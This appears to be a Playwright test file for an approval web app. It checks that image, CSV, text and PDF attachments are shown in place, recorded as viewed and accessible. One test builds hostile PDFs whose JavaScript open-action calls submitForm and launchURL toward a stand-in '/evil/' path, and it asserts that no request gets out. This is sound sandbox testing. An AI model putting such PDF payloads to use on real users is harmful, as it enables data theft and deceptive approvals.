"""Files on the page of their request, in a browser: shown in place, seen when they were in view or opened, and never run."""

from __future__ import annotations

import os
import re
import struct
import zlib
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.proofs.browser.places import axe, violations
from tests.proofs.browser.test_inbox import status
from tests.proofs.browser.test_live import card
from tests.support.desk.files import CSV, PDF, TEXT, attachment
from tests.support.machine import Remote
from tests.support.processes.server import until

__all__ = ["axe"]
pytestmark = pytest.mark.browser


def picture(width: int, height: int) -> bytes:
    """A PNG of one colour, which a browser shows."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    lines = zlib.compress((b"\0" + b"\x90" * width) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


FILES = {"parcel.png": picture(1600, 900), "R-2291.pdf": PDF, "note.txt": TEXT, "payouts.csv": CSV}


@pytest.fixture
def request_id(server):
    files = [attachment(content, name) for name, content in FILES.items()]
    body = {"title": "Pay invoice R-2291?", "tool_name": "pay", "input": {"amount": 1890}, "attachments": files}
    return Remote(server, "requester", ("ask", "read")).ask(**body)["id"]


#: Bring the next unseen part that is not a file into view; return whether none is left.
SEE_REST = """() => {
    const left = [...document.querySelectorAll('.is-pending [data-view]:not([data-viewed])')]
        .filter(one => one.checkVisibility() && !one.closest('.attachments, .raw, .edit'));
    left[0]?.scrollIntoView({ block: 'center' });
    return left.length === 0;
}"""


def see(page, part: str, place: int, seen: str) -> None:
    """Keep a part in view, while its surroundings may still load or be replaced, until the page has recorded it."""
    keep = """([part, place, seen]) => {
        [...document.querySelectorAll(`.attachments ${part}`)].at(place)?.scrollIntoView({ block: 'center' });
        return document.querySelector(`.attachments ${seen}[data-viewed]`) !== null;
    }"""
    page.wait_for_function(keep, arg=[part, place, seen])


def test_files_are_read_in_place_and_a_pdf_counts_as_seen_when_it_was_opened(windows, people, server, request_id):
    windows.tolerate(" 422 ")
    page = windows.open(people("approver"), f"/requests/{request_id}/")
    shown = card(page, request_id)
    image = shown.get_by_role("img", name="parcel.png")
    see(page, "img", 0, "img")
    size = "image => [image.width <= 642, (image.width / image.height).toFixed(1)]"
    until(lambda: image.evaluate(size) == [True, "1.8"], "the picture has its shape within the column")

    approve = shown.locator("button[data-key=a]")
    approve.click()
    # The content above the picture may not have been in view long enough.
    shown.get_by_text(re.compile(r"You haven't seen (.* and )?3 files yet\.")).wait_for()
    # The refusal has opened the folds, which load when they are in view.
    see(page, ".fold .attachment-preview", -1, "div[data-view]")
    expect(shown.get_by_role("cell", name="=1+1")).to_be_visible()
    see(page, ".fold .attachment-preview", 0, "pre[data-view]")
    expect(shown.get_by_text("Müller asks for 120 €.")).to_be_visible()
    assert status(server, request_id) == "pending"
    if folder := os.environ.get("PICTURES"):
        page.screenshot(path=Path(folder) / "attachments.png", full_page=True)
    # On a busy machine the page was scrolled to the picture before it had recorded the content above.
    page.wait_for_function(SEE_REST)
    with page.expect_download() as downloaded:
        shown.get_by_role("link", name="R-2291.pdf").click()
    assert downloaded.value.suggested_filename == "R-2291.pdf"
    expect(approve).to_have_text("Approve")
    approve.click()
    shown.locator(".outcome").wait_for()
    assert status(server, request_id) == "approved"


def pdf(action: bytes) -> bytes:
    """A PDF of one page, which a browser shows, that does this when it is opened."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << %s >> >>" % action,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] >>",
    ]
    body, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(body)
    return body + b"xref\n0 4\n0000000000 65535 f \n" + table + end


HOSTILE = {
    "message.pdf": b"/S /JavaScript /JS (app.alert('Approve everything'); this.submitForm('%s'); app.launchURL('%s');)",
    "link.pdf": b"/S /URI /URI (%s)",
}


def test_a_pdf_is_shown_in_a_frame_that_reaches_nothing_and_is_left_by_keyboard(notified_windows, people, server, axe):
    """Of the whole browser: its engine alone has no viewer for PDFs."""
    evil = f"{server.address}/evil/".encode()
    files = [attachment(pdf(action.replace(b"%s", evil)), name) for name, action in HOSTILE.items()]
    asked = Remote(server, "requester", ("ask", "read")).ask(tool_name="pay", tool_call_id="pdf", attachments=files)
    page = notified_windows.open(people("approver"), f"/requests/{asked['id']}/")
    messages, calls = [], []
    page.on("dialog", lambda dialog: (messages.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: calls.append(request.url))

    def viewers() -> int:
        return sum(frame.url.startswith("chrome-extension:") for frame in page.frames)

    page.keyboard.press("o")
    page.wait_for_function(SEE_REST)
    assert (page.locator("iframe").count(), messages) == (0, [])
    expect(page.locator("summary", has_text="Show message.pdf")).to_be_focused()
    expect(page.locator("#announcements")).to_have_text("You have not seen this file. Press Enter to open it.")
    for place, name in enumerate(HOSTILE):
        page.get_by_text(f"Show {name}").click()
        until(lambda: page.evaluate("true") and viewers() > place, "the viewer shows the PDF")  # noqa: B023 - called here
    until(lambda: page.evaluate("true") and messages, "the script of the PDF has run")
    assert (messages, page.url) == (["Approve everything"], f"{server.address}/requests/{asked['id']}/")
    assert [url for url in calls if "evil" in url] == []
    assert violations(page, axe) == {}

    page.locator("summary", has_text="message.pdf").focus()
    pressed = 0
    while not page.evaluate("document.activeElement.matches('button[data-opens]')"):
        page.keyboard.press("Tab")
        pressed += 1
        assert pressed < 40
    place = page.evaluate("document.activeElement.dataset.opens")
    page.keyboard.press("Enter")
    page.locator(f".attachment-preview:has([data-view='{place}']) [role=status]").wait_for()
    page.get_by_role("button", name="Mark as viewed").click()
    page.locator("button[data-key=a]").click()
    card(page, asked["id"]).locator(".outcome").wait_for()


def test_files_fit_into_a_narrow_window_and_are_read_by_screen_readers(windows, people, request_id, axe):
    page = windows.open(people("approver"), f"/requests/{request_id}/", viewport={"width": 360, "height": 740})
    page.wait_for_function("() => document.querySelector('.attachments img').naturalWidth > 0")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    if folder := os.environ.get("PICTURES"):
        page.screenshot(path=Path(folder) / "attachments-phone.png", full_page=True)
    for fold in page.locator(".attachments .fold > summary").all():
        fold.click()
    page.get_by_role("cell", name="=1+1").wait_for()
    page.get_by_text("Müller asks for 120 €.").wait_for()
    assert violations(page, axe) == {}


def test_a_bulk_page_tells_files_that_were_opened_from_others(windows, people, request_id):
    page = windows.open(people("approver"), "/requests/")
    # Other tests ask for the same, so its row may be in the fold of alike ones.
    page.locator(f"input[name=pick][value^='{request_id}']").evaluate("box => box.click()")
    page.locator("#bulk button[value=approve]").click()
    line = page.locator(".bulk-files li").filter(has_text="note.txt")
    expect(line).to_have_text(re.compile(r"not opened\s*$"))
    page.wait_for_load_state()  # before that, opened files aren't recorded
    with page.context.expect_page():
        line.get_by_role("link").click()
    page.locator(".bulk-files li").get_by_text("opened", exact=True).wait_for()
    # The other files were not opened, of which the page tells once.
    windows.tolerate(" 422 ")
    for words in ("files in 1 request", "1 request approved"):
        page.locator("form[data-bulk] button").click()
        page.get_by_text(words).wait_for()
